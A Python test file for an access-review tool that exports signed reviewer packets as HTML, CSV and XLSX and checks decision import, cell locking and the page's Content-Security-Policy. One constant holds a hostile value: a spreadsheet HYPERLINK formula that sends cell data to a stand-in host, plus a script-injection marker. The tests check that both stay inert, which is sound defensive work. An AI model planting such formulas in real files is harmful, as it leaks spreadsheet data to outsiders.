"""Reviewer packets: one per reviewer, safe to open in a spreadsheet or a browser, signed rows."""

from __future__ import annotations

import base64
import hashlib
import re
from datetime import timedelta
from html import unescape

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from auditor.campaign import create_campaign, export_packets, import_decisions
from auditor.campaign.model import CampaignError
from auditor.campaign.signing import COLUMNS
from auditor.campaign.state import item_states
from auditor.store import audit_log
from tests.builders import DEV
from tests.campaign.estate import NOW, build_world, decide_csv, decide_xlsx, read_csv, save_run, spec

EVIL = '=HYPERLINK("http://evil.example/"&A1,"<script>alert(1)</script>")'


@pytest.fixture
def hostile_run(tmp_path, settings):
    """An estate where someone named a group with a formula and markup."""
    world = build_world()
    ben = next(u for u in world.tables["idc_users"] if u.user_name == "ben")
    ps = next(p for p in world.tables["permission_sets"] if p.name == "ReadOnly")
    world.assign(ps, world.group(EVIL, ben), DEV)
    return save_run(world, tmp_path / "run", settings)


def test_each_reviewer_gets_html_csv_and_xlsx_with_the_same_rows(store, settings, run_dir, tmp_path):
    cid = create_campaign(store, settings, spec(), now=NOW, run_dir=run_dir).campaign.id
    packets = export_packets(store, cid, tmp_path / "out", now=NOW)
    assert [(p.reviewer, p.items) for p in packets] == [
        ("boss@example.com", 7),
        ("ceo@example.com", 1),
        ("security@example.com", 1),
    ]
    boss = packets[0]
    header, rows = read_csv(boss.csv)
    assert tuple(header) == COLUMNS
    sheet = load_workbook(boss.xlsx)["Review"]
    from_xlsx = [[c.value or "" for c in row] for row in sheet.iter_rows(min_row=2)]
    assert from_xlsx == [[row[c] for c in header] for row in rows]
    assert "Keeping a flagged item <strong>requires a justification</strong>" in boss.html.read_text()
    assert boss.csv.name == "campaign-1-boss-at-example.com.csv"


def test_only_decision_and_justification_are_editable_in_the_workbook(store, settings, run_dir, tmp_path):
    cid = create_campaign(store, settings, spec(), now=NOW, run_dir=run_dir).campaign.id
    (packet,) = export_packets(store, cid, tmp_path, now=NOW, reviewer="ceo@example.com")
    sheet = load_workbook(packet.xlsx)["Review"]
    assert sheet.protection.sheet
    unlocked = {COLUMNS[c.column - 1] for c in sheet[2] if not c.protection.locked}
    assert unlocked == {"decision", "justification"}


def test_formulas_and_markup_from_the_estate_stay_inert_and_rows_still_verify(store, settings, hostile_run, tmp_path):
    cid = create_campaign(store, settings, spec(), now=NOW, run_dir=hostile_run).campaign.id
    (packet,) = export_packets(store, cid, tmp_path, now=NOW, reviewer="boss@example.com")
    _, rows = read_csv(packet.csv)
    hostile = next(r for r in rows if r["via_group"].endswith(EVIL))
    assert hostile["via_group"] == "'" + EVIL
    cell = next(
        c
        for row in load_workbook(packet.xlsx)["Review"].iter_rows(min_row=2)
        for c in row
        if isinstance(c.value, str) and c.value.endswith(EVIL) and c.value.startswith("'=")
    )
    assert cell.data_type == "s"
    page = packet.html.read_text()
    assert "<script>alert(1)</script>" not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page

    for edit in (decide_csv, decide_xlsx):
        suffix = "csv" if edit is decide_csv else "xlsx"
        filled = edit(getattr(packet, suffix), tmp_path / f"back.{suffix}", {hostile["item_id"]: ("revoke", "")})
        result = import_decisions(store, cid, [filled], now=NOW + timedelta(hours=1))
        assert result.ok, [str(r) for r in result.rejections]


def test_exporting_for_a_reviewer_without_items_is_an_error(store, settings, run_dir, tmp_path):
    cid = create_campaign(store, settings, spec(), now=NOW, run_dir=run_dir).campaign.id
    with pytest.raises(CampaignError, match="no items for reviewer nobody@example.com"):
        export_packets(store, cid, tmp_path, now=NOW, reviewer="nobody@example.com")


def test_a_re_export_prefills_current_decisions(store, settings, run_dir, tmp_path):
    cid = create_campaign(store, settings, spec(), now=NOW, run_dir=run_dir).campaign.id
    (packet,) = export_packets(store, cid, tmp_path / "a", now=NOW, reviewer="ceo@example.com")
    _, rows = read_csv(packet.csv)
    filled = decide_csv(packet.csv, tmp_path / "ceo.csv", {rows[0]["item_id"]: ("keep", "leads the team")})
    assert import_decisions(store, cid, [filled], now=NOW).ok
    (again,) = export_packets(store, cid, tmp_path / "b", now=NOW, reviewer="ceo@example.com")
    _, rows = read_csv(again.csv)
    assert (rows[0]["decision"], rows[0]["justification"]) == ("keep", "leads the team")
    result = import_decisions(store, cid, [again.csv], now=NOW)
    # the prefilled decision is signed as exported: importing it records nothing again
    assert (result.files[0].status, result.files[0].recorded, result.files[0].unchanged) == ("applied", 0, 1)


def test_a_prefilled_decision_never_overrides_a_later_one_and_an_edited_one_is_the_importers(
    store, settings, run_dir, tmp_path
):
    cid = create_campaign(store, settings, spec(), now=NOW, run_dir=run_dir).campaign.id
    (packet,) = export_packets(store, cid, tmp_path / "a", now=NOW, reviewer="ceo@example.com")
    item = read_csv(packet.csv)[1][0]["item_id"]
    kept = decide_csv(packet.csv, tmp_path / "keep.csv", {item: ("keep", "leads the team")})
    assert import_decisions(store, cid, [kept], now=NOW).ok
    (stale,) = export_packets(store, cid, tmp_path / "b", now=NOW, reviewer="ceo@example.com")  # prefilled: keep
    revoked = decide_csv(stale.csv, tmp_path / "revoke.csv", {item: ("revoke", "left the team")})
    assert import_decisions(store, cid, [revoked], now=NOW, actor="cli:alice").files[0].recorded == 1
    again = import_decisions(store, cid, [stale.csv], now=NOW)  # the stale packet, prefilled with keep
    assert (again.files[0].recorded, again.files[0].unchanged) == (0, 1)
    (state,) = [s for s in item_states(store, cid) if s.item.item_id == item]
    assert state.decision.decision == "revoke"
    with store.engine.connect() as conn:
        actors = (
            conn.execute(
                sa.select(audit_log.c.actor).where(audit_log.c.action == "campaign.decision").order_by(audit_log.c.id)
            )
            .scalars()
            .all()
        )
    assert actors == ["auditor", "cli:alice"]


def test_the_packet_page_runs_no_script_and_its_policy_admits_its_own_style(store, settings, run_dir, tmp_path):
    cid = create_campaign(store, settings, spec(), now=NOW, run_dir=run_dir).campaign.id
    (packet,) = export_packets(store, cid, tmp_path, now=NOW, reviewer="ceo@example.com")
    page = packet.html.read_text()
    policy = unescape(re.search(r'http-equiv="Content-Security-Policy" content="([^"]+)"', page).group(1))
    directives = dict(part.strip().split(" ", 1) for part in policy.split(";"))
    [style] = re.findall(r"<style>(.*?)</style>", page, re.DOTALL)
    digest = base64.b64encode(hashlib.sha256(style.encode()).digest()).decode()
    assert directives["style-src"] == f"'sha256-{digest}'"
    assert (directives["default-src"], directives["script-src"]) == ("'none'", "'none'")
    assert "<script" not in page
